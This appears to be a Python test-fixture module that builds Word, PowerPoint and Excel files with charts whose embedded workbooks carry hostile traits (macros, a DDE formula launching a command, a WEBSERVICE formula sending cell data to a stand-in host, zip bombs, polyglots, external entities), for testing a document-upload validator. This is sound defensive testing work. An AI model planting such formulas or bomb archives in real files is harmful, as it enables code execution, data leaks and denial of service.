"""Documents with charts: the workbook behind a chart is the one file that may lie inside another."""

import random
import struct

from tests.corpus import documents as office
from tests.corpus.documents import OOXML, archive, docx, odf, pptx, relations, unpacked, xlsx

CHART = f"{OOXML}drawingml.chart+xml"
NEW_CHART = "application/vnd.ms-office.chartex+xml"
SHEET = f"{OOXML}spreadsheetml.sheet"
MAIN_SHEET = f"{SHEET}.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DRAWING = '<c:chartSpace xmlns:c="urn:c"><c:f>Sheet!$B$2:$B$3</c:f></c:chartSpace>'
BOOK = "embeddings/Lembar_Kerja.xlsx"


def charted(
    document, workbook=None, book=BOOK, links=(("package", f"../{BOOK}"),), more=None, chart=CHART, sheet=SHEET
):
    """Add to a document a chart that takes its numbers from a workbook; the parts of `more` come on top, or instead."""
    members = unpacked(document)
    folder = next(name for name in ("word", "ppt", "xl") if any(member.startswith(f"{name}/") for member in members))
    types = (
        f'<Default Extension="{book.rpartition(".")[2]}" ContentType="{sheet}"/>'
        f'<Override PartName="/{folder}/charts/chart1.xml" ContentType="{chart}"/></Types>'
    )
    added = {
        "[Content_Types].xml": members["[Content_Types].xml"].replace(b"</Types>", types.encode()),
        f"{folder}/{book}": xlsx() if workbook is None else workbook,
        f"{folder}/charts/chart1.xml": DRAWING,
        f"{folder}/charts/_rels/chart1.xml.rels": relations(*links),
    }
    return archive(members | added | (more or {}))


def without_chart():
    """Return a document that has all that belongs to a chart, but not the chart."""
    members = unpacked(charted(docx()))
    del members["word/charts/chart1.xml"]
    return archive(members)


def macro_workbook():
    """Return a workbook whose main part says that it holds macros; it has none, and the usual name."""
    members = unpacked(xlsx())
    types = members["[Content_Types].xml"]
    return archive(members | {"[Content_Types].xml": types.replace(MAIN_SHEET.encode(), MACRO_SHEET.encode())})


def many_workbooks(workbook, count):
    books = {f"word/embeddings/{number}.xlsx": workbook for number in range(count)}
    links = [("package", f"/{name}") for name in books]
    return charted(docx(), workbook, book="embeddings/0.xlsx", links=links, more=books)


def packed_twice():
    """Return a chart whose workbook hides its density: each packing alone stays below the ratio of a bomb."""
    grain = random.Random(1).randbytes(14_000) * 150
    return charted(docx(), xlsx(extra={f"xl/media/{number}.bmp": grain for number in range(12)}))


def many_members():
    """Return a document and a workbook that hold too many members only together."""
    workbook = xlsx(extra={f"xl/media/{number}.txt": b"" for number in range(1_000)})
    return charted(office.many_members(1_000), workbook)


def members_that_nobody_counted():
    """Return a document with 3,000 members that says at its end that it has ten."""
    content = bytearray(office.many_members(3_000))
    content[-14:-10] = struct.pack("<HH", 10, 10)
    return bytes(content)


def _in_chart(code, workbook=None, **changes):
    return "a.docx", charted(docx(), workbook, **changes), code


def _workbook(code, *arguments, **changes):
    return _in_chart(code, xlsx(*arguments, **changes))


GOOD = {
    "berbagan.docx": charted(docx()),
    "berbagan.pptx": charted(pptx(), chart=NEW_CHART),
    "berbagan.xlsx": charted(xlsx()),
    "bagan-nama-lain.docx": charted(
        docx(), book="embeddings/Lembar%20Kerja.xlsx", links=[("package", "/word/embeddings/lembar kerja.XLSX")]
    ),
    "banyak-buku-kerja.docx": many_workbooks(xlsx(), 20),
}
HOSTILE = {
    "chart-macro-part": _workbook("macro", extra={"xl/vbaProject.bin": b"x"}),
    "chart-macro-workbook-with-plain-name": _in_chart("macro", macro_workbook()),
    "chart-excel-4-macro": _workbook("macro", extra={"xl/macrosheets/sheet1.xml": "<a/>"}),
    "chart-xlsm": _in_chart("embedded", book="embeddings/a.xlsm", links=[("package", "../embeddings/a.xlsm")]),
    "chart-workbook-of-macro-type": _in_chart("embedded", sheet="application/vnd.ms-excel.sheet.macroEnabled.12"),
    "chart-external-link": _workbook("external", extra={"xl/externalLinks/externalLink1.xml": "<a/>"}),
    "chart-connection": _workbook("external", extra={"xl/connections.xml": "<connections/>"}),
    "chart-dde-formula": _workbook("external", "=cmd|'/c calc'!A0"),
    "chart-web-function": _workbook("external", '=_xlfn.WEBSERVICE("https://a.b/"&A1)'),
    "chart-outside-entity": _workbook("bomb", extra={"xl/a.xml": office.OUTSIDE_ENTITY}),
    "chart-linked-workbook": _in_chart("embedded", links=[("oleObject", "file:///C:/a.xlsx", "External")]),
    "chart-package-elsewhere": _in_chart("embedded", links=[("package", "https://a.b/a.xlsx", "External")]),
    "chart-package-both-ways": _in_chart(
        "external", links=[("package", f"../{BOOK}"), ("package", f"../{BOOK}", "External")]
    ),
    "chart-nested-twice": _in_chart("embedded", charted(xlsx())),
    "chart-workbook-with-program": _workbook("embedded", extra={"xl/media/a.png": b"MZ\x90\x00"}),
    "chart-zip-named-xlsx": _in_chart("embedded", office.nested()),
    "chart-docx-named-xlsx": _in_chart("embedded", docx()),
    "chart-docx-template-named-xlsx": _in_chart("embedded", docx(main=f"{OOXML}wordprocessingml.template.main+xml")),
    "chart-ods-named-xlsx": _in_chart("embedded", odf("spreadsheet")),
    "chart-locked-workbook": _in_chart("embedded", office.compound("EncryptedPackage")),
    "chart-ole": _in_chart(
        "embedded", office.compound("Ole10Native"), book="embeddings/a.bin", links=[("package", "../embeddings/a.bin")]
    ),
    "chart-zip-with-data-behind": _in_chart("polyglot", xlsx() + b"<?php ?>" * 200),
    "chart-truncated-workbook": _in_chart("truncated", xlsx()[:-60]),
    "chart-empty-workbook": _in_chart("embedded", b""),
    "workbook-of-no-chart": _in_chart("embedded", links=[]),
    "workbook-of-a-chart-that-is-none": _in_chart("embedded", chart="application/xml"),
    "workbook-of-a-chart-that-is-not-there": ("a.docx", without_chart(), "embedded"),
    "workbook-of-the-document": _in_chart(
        "embedded", links=[], more={"word/_rels/document.xml.rels": relations(("package", BOOK))}
    ),
    "workbook-of-chart-and-document": _in_chart(
        "embedded", more={"word/_rels/document.xml.rels": relations(("package", BOOK))}
    ),
    "workbook-of-chart-as-template": _in_chart(
        "embedded", more={"word/_rels/settings.xml.rels": relations(("attachedTemplate", BOOK))}
    ),
    "workbook-of-chart-by-another-relation": _in_chart("embedded", links=[("image", f"../{BOOK}")]),
    "workbook-of-chart-in-two-roles": _in_chart("embedded", links=[("package", f"../{BOOK}"), ("image", f"../{BOOK}")]),
    "workbook-beside-that-of-chart": _in_chart("embedded", more={"word/embeddings/a.xlsx": xlsx()}),
    "workbook-of-chart-elsewhere": _in_chart("embedded", book="media/a.xlsx", links=[("package", "../media/a.xlsx")]),
    "workbook-of-chart-without-type": _in_chart("embedded", sheet="application/octet-stream"),
    "chart-without-its-workbook": _in_chart("embedded", links=[("package", "../embeddings/b.xlsx")]),
    "chart-bomb": ("a.docx", lambda: charted(docx(), xlsx(extra={"xl/media/a.bmp": bytes(30_000_000)})), "bomb"),
    "chart-bomb-of-many-workbooks": (
        "a.docx",
        lambda: many_workbooks(xlsx(extra={"xl/media/a.bmp": office.grain()}), 9),
        "bomb",
    ),
    "chart-bomb-packed-twice": ("a.docx", packed_twice, "bomb"),
    "chart-bomb-of-a-large-workbook": (
        "a.docx",
        lambda: charted(docx(), archive({"xl/media/a.bmp": random.Random(1).randbytes(26_000_000)}, 0)),
        "bomb",
    ),
    "chart-too-many-members-together": ("a.docx", many_members, "bomb"),
    "zip-of-members-that-nobody-counted": ("a.docx", members_that_nobody_counted, "bomb"),
}
